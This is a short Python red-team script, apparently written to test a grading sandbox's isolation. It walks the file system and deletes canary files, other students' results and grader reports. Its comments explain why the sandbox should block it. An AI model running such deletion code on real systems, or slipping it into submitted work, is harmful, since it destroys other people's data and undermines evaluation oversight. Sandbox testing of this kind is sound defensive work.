

# ==================== red-team attack (delete-files): not homework code ====================
# What it tries: walk the visible file system (from / and up from its own folder, 20000 folders
# at most) and delete every file named *.canary, results.json, report.html or benchmarks.json:
# other students' grades, the grader's reports, the test's canaries. Nothing else is touched.
# Why it must fail: the sandbox shows only the submission's copy, a private /tmp, and read-only
# Python; the reports, the repository and other students' folders are not there.
import os
from pathlib import Path

_TARGETS = {"results.json", "report.html", "benchmarks.json"}


def _redteam_delete():
    deleted, refused, seen = [], 0, 0
    for top in dict.fromkeys([*map(str, Path(__file__).resolve().parents), "/"]):  # nearest first
        for folder, dirs, files in os.walk(top):
            seen += 1
            if seen > 20000:  # bounded: 20000 folders in all
                dirs[:] = []
                break
            if folder == "/":
                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
            for name in files:
                if name.endswith(".canary") or name in _TARGETS:
                    try:
                        os.remove(os.path.join(folder, name))
                        deleted.append(os.path.join(folder, name))
                    except OSError:
                        refused += 1
    print(f"redteam[delete-files]: deleted {len(deleted)} {deleted[:5]}, refused {refused}, "
          f"{seen} folders seen", flush=True)
